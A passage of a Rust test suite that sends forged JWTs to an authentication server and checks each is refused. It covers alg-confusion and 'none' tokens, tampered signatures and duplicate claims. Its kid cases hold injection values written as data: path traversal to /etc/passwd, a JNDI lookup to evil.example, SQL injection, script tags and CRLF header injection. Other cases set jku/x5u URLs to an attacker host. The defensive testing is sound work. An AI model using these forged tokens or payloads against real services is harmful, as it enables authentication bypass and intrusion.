//! Hostile tokens and requests: what an attacker would try (RFC 8725, the
//! Cognito checks), as tables of cases against the real server. Each case
//! names the exact refusal it must get; none may be a 2xx or a 5xx, and none
//! may be slow. Requests go over raw TCP so that bytes an HTTP client would
//! refuse to send (NUL, invalid UTF-8, repeated or folded headers) reach the
//! server too. The controls at the end prove valid tokens still pass, so the
//! tables cannot pass by refusing everything.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;
use cognito_guard::auth::jose::MAX_TOKEN_BYTES;
use cognito_guard::auth::TokenRejection::{self, *};
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{json, Value};

use crate::common::helpers::*;

const PRIVATE: &str = "/messages/private";
const FEED: &str = "/messages/feed";
/// Longest any one case may take. Refusals cost microseconds; this bound is
/// loose for a loaded CI machine, yet catches anything that blocks or spins.
const SLOW: Duration = Duration::from_secs(5);

/// The answer a case must get.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    /// 401 with `error="invalid_token"`, for exactly this reason.
    Invalid(TokenRejection),
    /// 401 with a bare `Bearer` challenge: no bearer credentials were seen.
    NoCredentials,
    /// 403: a genuine token whose groups do not include the admin group.
    Forbidden,
    /// Refused by the HTTP layer before any handler, with this 4xx.
    Http(u16),
    /// `/messages/feed` ignoring the token: 200 with the generic feed.
    GenericFeed,
}
use Expect::*;

struct Request {
    method: &'static str,
    path: String,
    headers: Vec<(String, Vec<u8>)>,
    body: Vec<u8>,
}

struct Case {
    name: String,
    request: Request,
    expect: Expect,
    /// The credential sent, if any, to check it is never echoed.
    token: Option<String>,
}

impl Case {
    /// `GET /messages/private` with exactly these headers.
    fn headers(name: impl Into<String>, headers: Vec<(&str, Vec<u8>)>, expect: Expect) -> Case {
        Case {
            name: name.into(),
            request: Request {
                method: "GET",
                path: PRIVATE.to_owned(),
                headers: headers
                    .into_iter()
                    .map(|(n, v)| (n.to_owned(), v))
                    .collect(),
                body: Vec::new(),
            },
            expect,
            token: None,
        }
    }

    /// `GET /messages/private` with `Authorization: Bearer <token>`.
    fn bearer(name: impl Into<String>, token: impl Into<String>, expect: Expect) -> Case {
        let token = token.into();
        let mut case = Case::headers(
            name,
            vec![("Authorization", format!("Bearer {token}").into_bytes())],
            expect,
        );
        case.token = Some(token);
        case
    }

    fn at(mut self, method: &'static str, path: &str) -> Case {
        self.request.method = method;
        self.request.path = path.to_owned();
        self
    }

    fn body(mut self, content_type: &str, body: &str) -> Case {
        self.request
            .headers
            .push(("Content-Type".to_owned(), content_type.as_bytes().to_vec()));
        self.request.body = body.as_bytes().to_vec();
        self
    }
}

struct RawResponse {
    status: u16,
    head: String,
    body: Vec<u8>,
}

impl RawResponse {
    fn header(&self, name: &str) -> Option<&str> {
        self.head.lines().skip(1).find_map(|line| {
            let (n, v) = line.split_once(':')?;
            n.eq_ignore_ascii_case(name).then(|| v.trim())
        })
    }
}

/// One HTTP/1.1 request on its own connection, bytes exactly as given.
fn send_raw(address: &str, request: &Request) -> Result<RawResponse, String> {
    let mut stream = TcpStream::connect(address).map_err(|e| format!("connect: {e}"))?;
    stream
        .set_read_timeout(Some(Duration::from_secs(15)))
        .map_err(|e| e.to_string())?;
    let mut bytes = format!(
        "{} {} HTTP/1.1\r\nHost: {address}\r\nConnection: close\r\n",
        request.method, request.path
    )
    .into_bytes();
    for (name, value) in &request.headers {
        bytes.extend_from_slice(name.as_bytes());
        bytes.extend_from_slice(b": ");
        bytes.extend_from_slice(value);
        bytes.extend_from_slice(b"\r\n");
    }
    if !request.body.is_empty() {
        bytes.extend_from_slice(format!("Content-Length: {}\r\n", request.body.len()).as_bytes());
    }
    bytes.extend_from_slice(b"\r\n");
    bytes.extend_from_slice(&request.body);
    // The server may answer (and close) before reading a refused request to
    // its end; what it answered is still readable.
    let _ = stream.write_all(&bytes);
    let mut answer = Vec::new();
    let read = stream.read_to_end(&mut answer);
    if answer.is_empty() {
        return Err(format!("no answer ({read:?})"));
    }
    let split = answer
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .ok_or("no end of headers")?;
    let head = String::from_utf8_lossy(&answer[..split]).into_owned();
    let status = head
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .ok_or_else(|| format!("no status in {head:?}"))?;
    Ok(RawResponse {
        status,
        head,
        body: answer[split + 4..].to_vec(),
    })
}

/// What is wrong with `response` as the answer to `case`, if anything.
fn judge(case: &Case, response: &RawResponse, elapsed: Duration) -> Result<(), String> {
    let status = response.status;
    let body: Value = serde_json::from_slice(&response.body).unwrap_or(Value::Null);
    let detail = body["detail"].as_str().unwrap_or("");
    let challenge = response.header("www-authenticate").unwrap_or("");
    if status >= 500 {
        return Err(format!("server error {status}"));
    }
    if (200..300).contains(&status) && case.expect != GenericFeed {
        return Err(format!("accepted with {status}: {body}"));
    }
    if elapsed > SLOW {
        return Err(format!("took {elapsed:?}"));
    }
    if let Some(token) = &case.token {
        // No part of the credential comes back (RFC 6750 descriptions are
        // fixed texts); short segments could match by accident.
        for segment in token.split('.').filter(|s| s.len() >= 16) {
            if response.head.contains(segment) || detail.contains(segment) {
                return Err("the token is echoed in the response".to_owned());
            }
        }
    }
    match case.expect {
        Invalid(reason) => {
            let want = format!(r#"Bearer error="invalid_token", error_description="{reason}""#);
            if status != 401 || challenge != want || detail != format!("invalid token: {reason}") {
                return Err(format!(
                    "want 401 `{reason}`, got {status} challenge `{challenge}` detail `{detail}`"
                ));
            }
        }
        NoCredentials => {
            if status != 401 || challenge != "Bearer" || detail.is_empty() {
                return Err(format!(
                    "want 401 bare challenge, got {status} `{challenge}` `{detail}`"
                ));
            }
        }
        Forbidden => {
            if status != 403 || challenge != r#"Bearer error="insufficient_scope""# {
                return Err(format!("want 403, got {status} `{challenge}` {body}"));
            }
        }
        Http(want) => {
            if status != want {
                return Err(format!("want {want}, got {status}"));
            }
        }
        GenericFeed => {
            if status != 200 || body != json!({"feed": "generic"}) {
                return Err(format!("want the generic feed, got {status} {body}"));
            }
        }
    }
    Ok(())
}

/// Sends every case, then fails once, naming each case that went wrong.
async fn run(app: &TestApp, cases: Vec<Case>) {
    let address = app.address.trim_start_matches("http://").to_owned();
    let total = cases.len();
    let mut failures = Vec::new();
    for case in cases {
        let address = address.clone();
        let (case, outcome) = actix_rt::task::spawn_blocking(move || {
            let started = Instant::now();
            let response = send_raw(&address, &case.request);
            let outcome = response.and_then(|r| judge(&case, &r, started.elapsed()));
            (case, outcome)
        })
        .await
        .expect("case thread");
        if let Err(why) = outcome {
            failures.push(format!("  {}: {why}", case.name));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {total} hostile cases failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

// ---- Token construction ---------------------------------------------------

fn trusted_header() -> Value {
    json!({"kid": trusted_key().kid, "alg": "RS256"})
}

/// The test pool's ordinary ID token claims.
fn claims() -> Value {
    id_claims("sub-h", Some("h@example.com"), &[])
}

fn claims_with(field: &str, value: Value) -> Value {
    let mut claims = claims();
    claims[field] = value;
    claims
}

fn claims_without(field: &str) -> Value {
    let mut claims = claims();
    claims.as_object_mut().map(|c| c.remove(field));
    claims
}

/// The pool's usual header with some parameters set or replaced.
fn header_with(pairs: &[(&str, Value)]) -> Value {
    let mut header = trusted_header();
    for (name, value) in pairs {
        header[*name] = value.clone();
    }
    header
}

/// Genuinely signed by the pool's key, RS256, whatever the header says.
fn signed(header: &Value, claims: &Value) -> String {
    sign_raw(header, claims, &trusted_key().encoding, Algorithm::RS256)
}

/// Genuinely signed by the pool's key over exactly these segment bytes.
fn signed_bytes(header: &[u8], payload: &[u8]) -> String {
    let message = format!("{}.{}", b64(header), b64(payload));
    let signature = jsonwebtoken::crypto::sign(
        message.as_bytes(),
        &trusted_key().encoding,
        Algorithm::RS256,
    )
    .expect("signing works");
    format!("{message}.{signature}")
}

/// A valid token's claims as raw JSON text, with `extra` spliced in before
/// the closing brace (for duplicate names).
fn signed_payload_text(extra: &str) -> String {
    let text = claims().to_string();
    let body = text.strip_suffix('}').expect("an object");
    signed_bytes(
        trusted_header().to_string().as_bytes(),
        format!("{body},{extra}}}").as_bytes(),
    )
}

fn unsigned(header: &Value, claims: &Value, signature: &str) -> String {
    format!(
        "{}.{}.{signature}",
        b64(header.to_string().as_bytes()),
        b64(claims.to_string().as_bytes())
    )
}

fn hmac(alg: Algorithm, secret: &[u8]) -> String {
    let header = json!({"kid": trusted_key().kid, "alg": format!("{alg:?}")});
    sign_raw(&header, &claims(), &EncodingKey::from_secret(secret), alg)
}

fn parts(token: &str) -> (String, String, String) {
    let mut it = token.split('.').map(str::to_owned);
    let (Some(h), Some(p), Some(s)) = (it.next(), it.next(), it.next()) else {
        panic!("three segments")
    };
    (h, p, s)
}

fn valid() -> String {
    signed(&trusted_header(), &claims())
}

// ---- The cases --------------------------------------------------------------

/// RFC 8725 §2.1, §3.1: the algorithm is fixed, never taken from the token.
fn algorithm_cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let kid = trusted_key().kid.clone();
    for alg in ["nOnE", "none ", "NoNe", ""] {
        let token = unsigned(&json!({"kid": kid, "alg": alg}), &claims(), "c2ln");
        cases.push(Case::bearer(
            format!("alg {alg:?} with a signature"),
            token,
            Invalid(BadAlgorithm),
        ));
    }
    cases.push(Case::bearer(
        "alg none, no signature",
        unsigned(&json!({"kid": kid, "alg": "none"}), &claims(), ""),
        Invalid(Malformed),
    ));
    cases.push(Case::bearer(
        "alg none over a genuine RS256 signature",
        signed(&header_with(&[("alg", json!("none"))]), &claims()),
        Invalid(BadAlgorithm),
    ));

    // HMAC keyed with the public key, in every encoding a confused verifier
    // might feed to HMAC.
    let pem = trusted_key().public_pem.clone();
    assert!(!pem.is_empty(), "public key fixture present");
    let pem_text = String::from_utf8(pem.clone()).expect("PEM is text");
    let body: String = pem_text
        .lines()
        .filter(|l| !l.starts_with("-----"))
        .collect();
    let der = STANDARD.decode(&body).expect("PEM body is base64");
    let jwk = trusted_key().jwk();
    let n_b64 = jwk["n"].as_str().expect("n").to_owned();
    let n = b64_decode(&n_b64);
    let secrets: Vec<(&str, Vec<u8>)> = vec![
        (
            "PEM without final newline",
            pem_text.trim_end().as_bytes().to_vec(),
        ),
        ("PEM with CRLF", pem_text.replace('\n', "\r\n").into_bytes()),
        ("PEM body only", body.clone().into_bytes()),
        ("SPKI DER", der),
        ("JWK JSON", jwk.to_string().into_bytes()),
        ("JWKS JSON", json!({"keys": [jwk]}).to_string().into_bytes()),
        ("modulus bytes", n),
        ("modulus base64url", n_b64.into_bytes()),
        ("kid", kid.clone().into_bytes()),
        ("empty key", Vec::new()),
    ];
    for (what, secret) in secrets {
        cases.push(Case::bearer(
            format!("HS256 keyed with the public key as {what}"),
            hmac(Algorithm::HS256, &secret),
            Invalid(BadAlgorithm),
        ));
    }
    cases.push(Case::bearer(
        "HS384 keyed with the PEM",
        hmac(Algorithm::HS384, &pem),
        Invalid(BadAlgorithm),
    ));
    cases.push(Case::bearer(
        "HS512 keyed with the PEM",
        hmac(Algorithm::HS512, &pem),
        Invalid(BadAlgorithm),
    ));

    // Really signed with the pool key under another RSA scheme.
    for alg in [Algorithm::PS384, Algorithm::PS512] {
        let header = header_with(&[("alg", json!(format!("{alg:?}")))]);
        let token = sign_raw(&header, &claims(), &trusted_key().encoding, alg);
        cases.push(Case::bearer(
            format!("{alg:?}, really signed so"),
            token,
            Invalid(BadAlgorithm),
        ));
    }
    // A genuine RS256 signature relabelled: only the label is wrong.
    for alg in [
        "ES256",
        "ES384",
        "ES512",
        "EdDSA",
        "RSA-OAEP",
        "RSA1_5",
        "dir",
        "A256GCM",
        "Rs256",
        "RS256 ",
        " RS256",
        "RS256\u{0}",
        "RS2560",
        "RSA256",
        "RS-256",
        "RS256,none",
    ] {
        cases.push(Case::bearer(
            format!("genuine RS256 signature labelled {alg:?}"),
            signed(&header_with(&[("alg", json!(alg))]), &claims()),
            Invalid(BadAlgorithm),
        ));
    }
    // `alg` missing or not a string.
    let mut no_alg = trusted_header();
    no_alg.as_object_mut().map(|h| h.remove("alg"));
    cases.push(Case::bearer(
        "alg missing",
        signed(&no_alg, &claims()),
        Invalid(BadHeader),
    ));
    for (what, alg) in [
        ("null", json!(null)),
        ("a number", json!(256)),
        ("an array", json!(["RS256"])),
        ("an object", json!({"name": "RS256"})),
        ("a boolean", json!(true)),
    ] {
        cases.push(Case::bearer(
            format!("alg is {what}"),
            signed(&header_with(&[("alg", alg)]), &claims()),
            Invalid(BadHeader),
        ));
    }
    for (what, header) in [
        (
            "alg RS256 then none",
            format!(r#"{{"kid":"{kid}","alg":"RS256","alg":"none"}}"#),
        ),
        (
            "alg none then RS256",
            format!(r#"{{"kid":"{kid}","alg":"none","alg":"RS256"}}"#),
        ),
    ] {
        cases.push(Case::bearer(
            format!("duplicate {what}"),
            signed_bytes(header.as_bytes(), claims().to_string().as_bytes()),
            Invalid(BadHeader),
        ));
    }
    cases
}

fn b64_decode(text: &str) -> Vec<u8> {
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
    URL_SAFE_NO_PAD.decode(text).expect("base64url")
}

/// The key comes from the pool's JWKS by `kid`, never from the token.
fn key_selection_cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let mut no_kid = trusted_header();
    no_kid.as_object_mut().map(|h| h.remove("kid"));
    cases.push(Case::bearer(
        "kid missing",
        signed(&no_kid, &claims()),
        Invalid(MissingKid),
    ));
    cases.push(Case::bearer(
        "kid empty",
        signed(&header_with(&[("kid", json!(""))]), &claims()),
        Invalid(MissingKid),
    ));
    cases.push(Case::bearer(
        "kid null",
        signed(&header_with(&[("kid", json!(null))]), &claims()),
        Invalid(MissingKid),
    ));
    for (what, kid) in [
        ("a number", json!(1)),
        ("an array", json!([trusted_key().kid])),
        ("an object", json!({"kid": trusted_key().kid})),
        ("a boolean", json!(true)),
    ] {
        cases.push(Case::bearer(
            format!("kid is {what}"),
            signed(&header_with(&[("kid", kid)]), &claims()),
            Invalid(BadHeader),
        ));
    }
    let near = &trusted_key().kid;
    for kid in [
        "made-up".to_owned(),
        near.to_uppercase(),
        format!("{near} "),
        format!(" {near}"),
        format!("{near}\u{0}"),
        format!("{near}\n"),
        near[..near.len() - 1].to_owned(),
        format!("{near}2"),
        "../../../../etc/passwd".to_owned(),
        "/dev/urandom".to_owned(),
        "file:///etc/passwd".to_owned(),
        "https://evil.example/.well-known/jwks.json".to_owned(),
        "' OR '1'='1".to_owned(),
        format!("{near}' --"),
        "*".to_owned(),
        "%s%s%n".to_owned(),
        "${jndi:ldap://evil.example/a}".to_owned(),
        "<script>alert(1)</script>".to_owned(),
        format!("{near}\r\nX-Injected: 1"),
        "__proto__".to_owned(),
        "k".repeat(8_000),
    ] {
        let label: String = kid.chars().take(40).collect();
        cases.push(Case::bearer(
            format!("kid {label:?} ({} bytes)", kid.len()),
            signed(&header_with(&[("kid", json!(kid))]), &claims()),
            Invalid(UnknownKid),
        ));
    }
    cases.push(Case::bearer(
        "kid so large the token is over the limit",
        signed(
            &header_with(&[("kid", json!("k".repeat(13_000)))]),
            &claims(),
        ),
        Invalid(TooLarge),
    ));
    cases.push(Case::bearer(
        "an unpublished key under its own kid",
        sign(&claims(), rotated_key()),
        Invalid(UnknownKid),
    ));

    // Keys and key locations smuggled in the header (RFC 8725 §3.10).
    let rogue_jwk = json!({"kty": "RSA", "kid": "attacker", "n": "AQAB", "e": "AQAB"});
    let forbidden = [
        ("embedded jwk", json!({"jwk": rogue_jwk})),
        (
            "embedded copy of the trusted jwk",
            json!({"jwk": trusted_key().jwk()}),
        ),
        ("jku", json!({"jku": "https://evil.example/jwks.json"})),
        (
            "jku pointing at the pool",
            json!({"jku": format!("{ISSUER}/.well-known/jwks.json")}),
        ),
        ("x5u", json!({"x5u": "https://evil.example/cert.pem"})),
        (
            "x5c",
            json!({"x5c": ["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"]}),
        ),
        ("crit exp", json!({"crit": ["exp"]})),
        ("crit empty", json!({"crit": []})),
        (
            "crit b64 with b64 false",
            json!({"crit": ["b64"], "b64": false}),
        ),
        ("jku null", json!({"jku": null})),
    ];
    for (what, extra) in forbidden {
        let mut header = trusted_header();
        for (k, v) in extra.as_object().expect("object") {
            header[k] = v.clone();
        }
        // Signed by the attacker's key: the one the smuggled parameter names.
        cases.push(Case::bearer(
            format!("header with {what}"),
            sign_raw(&header, &claims(), &rogue_key().encoding, Algorithm::RS256),
            Invalid(ForbiddenHeaderParameter),
        ));
    }
    cases
}

/// The signature covers exactly `header.payload`, by the pool's key.
fn signature_cases() -> Vec<Case> {
    let token = valid();
    let (h, p, s) = parts(&token);
    let mut cases = vec![
        Case::bearer(
            "signature stripped, dot kept",
            format!("{h}.{p}."),
            Invalid(Malformed),
        ),
        Case::bearer(
            "signature segment gone",
            format!("{h}.{p}"),
            Invalid(Malformed),
        ),
        Case::bearer(
            "signature truncated by one",
            format!("{h}.{p}.{}", &s[..s.len() - 1]),
            Invalid(BadSignature),
        ),
        Case::bearer(
            "signature halved",
            format!("{h}.{p}.{}", &s[..s.len() / 2]),
            Invalid(BadSignature),
        ),
        Case::bearer(
            "signature of four characters",
            format!("{h}.{p}.{}", &s[..4]),
            Invalid(BadSignature),
        ),
        Case::bearer(
            "signature doubled",
            format!("{h}.{p}.{s}{s}"),
            Invalid(BadSignature),
        ),
        Case::bearer(
            "signature of zeros",
            format!("{h}.{p}.{}", "A".repeat(s.len())),
            Invalid(BadSignature),
        ),
        Case::bearer(
            "signature in standard base64 with padding",
            format!("{h}.{p}.{}", STANDARD.encode(b64_decode(&s))),
            Invalid(Malformed),
        ),
    ];
    let flip = |i: usize| {
        let mut bytes = s.clone().into_bytes();
        bytes[i] = if bytes[i] == b'A' { b'B' } else { b'A' };
        format!("{h}.{p}.{}", String::from_utf8(bytes).expect("ascii"))
    };
    cases.push(Case::bearer(
        "signature first character flipped",
        flip(0),
        Invalid(BadSignature),
    ));
    cases.push(Case::bearer(
        "signature middle character flipped",
        flip(s.len() / 2),
        Invalid(BadSignature),
    ));
    // 256 bytes are 342 characters whose last one carries 2 bits; changing
    // its 4 unused bits keeps the bytes but must not keep the token valid.
    let last = s.as_bytes()[s.len() - 1];
    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let index = alphabet.iter().position(|c| *c == last).expect("base64url");
    let twin = alphabet[(index & !0x0f) | ((index + 1) & 0x0f)] as char;
    cases.push(Case::bearer(
        "signature with non-canonical trailing bits",
        format!("{h}.{p}.{}{twin}", &s[..s.len() - 1]),
        Invalid(BadSignature),
    ));

    let other = signed(&trusted_header(), &id_claims("sub-other", None, &["admin"]));
    let (_, other_p, _) = parts(&other);
    let access = signed(&trusted_header(), &access_claims("sub-h", &[]));
    let (_, _, access_s) = parts(&access);
    cases.push(Case::bearer(
        "payload of another token, this signature",
        format!("{h}.{other_p}.{s}"),
        Invalid(BadSignature),
    ));
    cases.push(Case::bearer(
        "signature borrowed from an access token",
        format!("{h}.{p}.{access_s}"),
        Invalid(BadSignature),
    ));
    let typ = b64(header_with(&[("typ", json!("JWT"))]).to_string().as_bytes());
    cases.push(Case::bearer(
        "header changed after signing",
        format!("{typ}.{p}.{s}"),
        Invalid(BadSignature),
    ));
    cases.push(Case::bearer(
        "signed by another RSA key under the trusted kid, admin claimed",
        sign(&id_claims("sub-h", None, &["admin"]), rogue_key()),
        Invalid(BadSignature),
    ));
    cases.push(Case::bearer(
        "signed by the rotated key under the trusted kid",
        sign_raw(
            &trusted_header(),
            &claims(),
            &rotated_key().encoding,
            Algorithm::RS256,
        ),
        Invalid(BadSignature),
    ));
    for (what, field, value) in [
        ("sub", "sub", json!("sub-victim")),
        ("exp extended", "exp", json!(now() + 86_400 * 365)),
        ("email", "email", json!("ceo@example.com")),
        ("aud", "aud", json!(OTHER_CLIENT_ID)),
    ] {
        let tampered = b64(claims_with(field, value).to_string().as_bytes());
        cases.push(Case::bearer(
            format!("payload tampered: {what}"),
            format!("{h}.{tampered}.{s}"),
            Invalid(BadSignature),
        ));
    }
    let pretty = serde_json::to_string_pretty(&claims()).expect("json");
    cases.push(Case::bearer(
        "same claims, re-serialised",
        format!("{h}.{}.{s}", b64(pretty.as_bytes())),
        Invalid(BadSignature),
    ));
    cases
}

/// Every claim rule, against claims genuinely signed by the pool's key.
fn claim_cases() -> Vec<Case> {
    let now = now();
    let mut cases = Vec::new();
    let mut add = |name: String, claims: Value, expect: Expect| {
        cases.push(Case::bearer(
            name,
            signed(&trusted_header(), &claims),
            expect,
        ));
    };
    let table: Vec<(&str, Value, TokenRejection)> = vec![
        ("exp", json!(now), Expired),
        ("exp", json!(now - 1), Expired),
        ("exp", json!(0), Expired),
        ("exp", json!(-1), WrongClaimType),
        ("exp", json!(now as f64 + 3600.5), WrongClaimType),
        ("exp", json!(1e20), WrongClaimType),
        ("exp", json!(true), WrongClaimType),
        ("exp", json!([now + 3600]), WrongClaimType),
        ("exp", json!({"value": now + 3600}), WrongClaimType),
        ("nbf", json!(now + 60), NotYetValid),
        ("nbf", json!(u64::MAX), NotYetValid),
        ("nbf", json!("0"), WrongClaimType),
        ("nbf", json!(null), WrongClaimType),
        ("nbf", json!(-1), WrongClaimType),
        ("nbf", json!(1.5), WrongClaimType),
        ("iat", json!(now.to_string()), WrongClaimType),
        ("iat", json!(-5), WrongClaimType),
        ("iss", json!(""), WrongIssuer),
        (
            "iss",
            json!(ISSUER.replace("https://", "HTTPS://")),
            WrongIssuer,
        ),
        (
            "iss",
            json!(ISSUER.replace("cognito-idp", "COGNITO-IDP")),
            WrongIssuer,
        ),
        (
            "iss",
            json!(ISSUER.replace("TestPool1", "testpool1")),
            WrongIssuer,
        ),
        (
            "iss",
            json!(ISSUER.replace(".com/", ".com:443/")),
            WrongIssuer,
        ),
        (
            "iss",
            json!(format!("{ISSUER}/.well-known/jwks.json")),
            WrongIssuer,
        ),
        ("iss", json!(format!("{ISSUER}?")), WrongIssuer),
        ("iss", json!(format!("{ISSUER}#")), WrongIssuer),
        ("iss", json!(format!("{ISSUER}\n")), WrongIssuer),
        ("iss", json!(format!("{ISSUER}\u{0}")), WrongIssuer),
        (
            "iss",
            json!(ISSUER.replace("amazonaws.com", "amazonaws.com.evil.example")),
            WrongIssuer,
        ),
        (
            "iss",
            json!(format!("https://evil.example/{ISSUER}")),
            WrongIssuer,
        ),
        (
            "iss",
            json!("https://dev-issuer.cognito-guard.invalid/us-east-1_DevPool01"),
            WrongIssuer,
        ),
        ("iss", json!(null), WrongClaimType),
        ("iss", json!(42), WrongClaimType),
        ("iss", json!([ISSUER, ISSUER_ALT]), WrongClaimType),
        ("aud", json!(""), WrongClient),
        ("aud", json!(CLIENT_ID.to_uppercase()), WrongClient),
        ("aud", json!(&CLIENT_ID[..CLIENT_ID.len() - 1]), WrongClient),
        ("aud", json!(format!("{CLIENT_ID}4")), WrongClient),
        ("aud", json!(format!("{CLIENT_ID} ")), WrongClient),
        (
            "aud",
            json!(format!("{CLIENT_ID},{OTHER_CLIENT_ID}")),
            WrongClient,
        ),
        ("aud", json!("*"), WrongClient),
        ("aud", json!(null), WrongClaimType),
        ("aud", json!(123), WrongClaimType),
        ("aud", json!([CLIENT_ID, "someone-else"]), WrongClaimType),
        ("aud", json!({}), WrongClaimType),
        ("token_use", json!("ID"), WrongTokenUse),
        ("token_use", json!("Id"), WrongTokenUse),
        ("token_use", json!("id "), WrongTokenUse),
        ("token_use", json!("refresh"), WrongTokenUse),
        ("token_use", json!(""), WrongTokenUse),
        ("token_use", json!(null), WrongClaimType),
        ("token_use", json!(["id"]), WrongClaimType),
        ("token_use", json!(true), WrongClaimType),
        ("sub", json!(""), MissingSubject),
        ("sub", json!(null), WrongClaimType),
        ("sub", json!(["sub-h"]), WrongClaimType),
        ("email", json!(["h@example.com"]), WrongClaimType),
        ("email", json!(true), WrongClaimType),
        ("cognito:username", json!(1), WrongClaimType),
        ("cognito:groups", json!(null), WrongClaimType),
        ("cognito:groups", json!(1), WrongClaimType),
        ("cognito:groups", json!({"admin": true}), WrongClaimType),
        ("cognito:groups", json!([null]), WrongClaimType),
        ("cognito:groups", json!([["admin"]]), WrongClaimType),
        ("cognito:groups", json!([{"name": "admin"}]), WrongClaimType),
    ];
    for (field, value, reason) in table {
        let label: String = value.to_string().chars().take(60).collect();
        add(
            format!("{field} = {label}"),
            claims_with(field, value),
            Invalid(reason),
        );
    }
    add(
        "sub missing".to_owned(),
        claims_without("sub"),
        Invalid(MissingSubject),
    );
    add(
        "token_use missing".to_owned(),
        claims_without("token_use"),
        Invalid(MissingTokenUse),
    );
    let mut id_with_client_id = claims_without("aud");
    id_with_client_id["client_id"] = json!(CLIENT_ID);
    add(
        "ID token naming the client in client_id, not aud".to_owned(),
        id_with_client_id,
        Invalid(WrongClient),
    );
    add(
        "access token with admin group, ID tokens only".to_owned(),
        access_claims("sub-h", &["admin"]),
        Invalid(WrongTokenUse),
    );

    // Duplicate names: which one counts would be the parser's guess.
    let expired = now - 10;
    for (what, extra) in [
        ("sub", r#""sub":"sub-victim""#.to_owned()),
        ("exp, second one expired", format!(r#""exp":{expired}"#)),
        ("iss", r#""iss":"https://evil.example""#.to_owned()),
        ("aud", format!(r#""aud":"{OTHER_CLIENT_ID}""#)),
        ("token_use", r#""token_use":"access""#.to_owned()),
        ("cognito:groups", r#""cognito:groups":["admin"]"#.to_owned()),
        (
            "exp, spelt with an escape",
            format!(r#""e\u0078p":{expired}"#),
        ),
        (
            "cognito:groups, spelt with an escape",
            r#""cognito\u003agroups":["admin"]"#.to_owned(),
        ),
    ] {
        let mut extra = extra;
        if what.starts_with("cognito:groups") {
            // The first occurrence must exist for it to be a duplicate.
            extra = format!(r#""cognito:groups":[],{extra}"#);
        }
        cases.push(Case::bearer(
            format!("duplicate claim {what}"),
            signed_payload_text(&extra),
            Invalid(BadPayload),
        ));
    }
    cases
}

/// Genuine tokens whose groups only resemble the admin group: 403 on the
/// admin route, never 2xx.
fn group_cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for group in [
        "Admin",
        "ADMIN",
        "admin ",
        " admin",
        "admin\u{0}",
        "\u{430}dmin",
        "admin\u{200b}",
        "admins",
        "administrators",
        "",
        "*",
        "cognito:admin",
        "us-east-1_TestPool1_admin",
        "admin,users",
    ] {
        let token = id_token("sub-h", None, &[group, "users"]);
        cases.push(
            Case::bearer(format!("group {group:?}"), token, Forbidden)
                .at("DELETE", "/users/sub-victim"),
        );
    }
    cases.push(
        Case::bearer("no groups at all", id_token("sub-h", None, &[]), Forbidden)
            .at("DELETE", "/users/sub-victim"),
    );
    cases.push(
        Case::bearer(
            "empty cognito:groups",
            signed(&trusted_header(), &claims_with("cognito:groups", json!([]))),
            Forbidden,
        )
        .at("DELETE", "/users/sub-victim"),
    );
    for (claim, value) in [
        ("groups", json!(["admin"])),
        ("custom:groups", json!(["admin"])),
        (
            "cognito:roles",
            json!(["arn:aws:iam::123456789012:role/admin"]),
        ),
        ("cognito:preferred_role", json!("admin")),
        ("scope", json!("admin")),
        ("custom:admin", json!(true)),
    ] {
        cases.push(
            Case::bearer(
                format!("admin claimed in {claim}"),
                signed(&trusted_header(), &claims_with(claim, value)),
                Forbidden,
            )
            .at("DELETE", "/users/sub-victim"),
        );
    }
    cases
}

/// Shape of the token itself: a bad header is refused before any key lookup
/// or crypto; a bad payload, even under a genuine signature, right after it.
fn structure_cases() -> Vec<Case> {
    let token = valid();
    let (h, p, s) = parts(&token);
    let header_of = |bytes: &[u8]| format!("{}.{p}.{s}", b64(bytes));
    let deep = |n: usize| format!("{}{}", "[".repeat(n), "]".repeat(n));
    let mut cases = vec![
        Case::bearer("a single dot", ".", Invalid(Malformed)),
        Case::bearer("three dots", "...", Invalid(Malformed)),
        Case::bearer("one segment", h.clone(), Invalid(Malformed)),
        Case::bearer(
            "five segments (JWE shape)",
            format!("{h}.{p}.{s}.{s}.{s}"),
            Invalid(Malformed),
        ),
        Case::bearer(
            "valid token plus a dot",
            format!("{token}."),
            Invalid(Malformed),
        ),
        Case::bearer(
            "empty header segment",
            format!(".{p}.{s}"),
            Invalid(Malformed),
        ),
        Case::bearer(
            "empty payload segment",
            format!("{h}..{s}"),
            Invalid(Malformed),
        ),
        Case::bearer(
            "base64 padding in the header",
            format!("{h}=.{p}.{s}"),
            Invalid(Malformed),
        ),
        Case::bearer(
            "standard-alphabet + in the header",
            format!("{h}+.{p}.{s}"),
            Invalid(Malformed),
        ),
        Case::bearer(
            "standard-alphabet / in the payload",
            format!("{h}.{p}/.{s}"),
            Invalid(Malformed),
        ),
        Case::bearer(
            "percent-encoded dot",
            token.replacen('.', "%2E", 1),
            Invalid(Malformed),
        ),
        Case::bearer("space inside", format!("{h}. {p}.{s}"), Invalid(Malformed)),
        Case::bearer("tab inside", format!("{h}.\t{p}.{s}"), Invalid(Malformed)),
        Case::bearer(
            "non-ASCII letter inside",
            format!("{h}é.{p}.{s}"),
            Invalid(Malformed),
        ),
        Case::bearer(
            "header one character short of base64",
            format!("{}.{p}.{s}", &h[..5]),
            Invalid(BadHeader),
        ),
        Case::bearer("header not JSON", header_of(b"hello"), Invalid(BadHeader)),
        Case::bearer(
            "header a JSON string",
            header_of(br#""RS256""#),
            Invalid(BadHeader),
        ),
        Case::bearer("header JSON null", header_of(b"null"), Invalid(BadHeader)),
        Case::bearer(
            "header a JSON number",
            header_of(b"256"),
            Invalid(BadHeader),
        ),
        Case::bearer(
            "header a JSON array",
            header_of(format!(r#"["RS256","{}"]"#, trusted_key().kid).as_bytes()),
            Invalid(BadHeader),
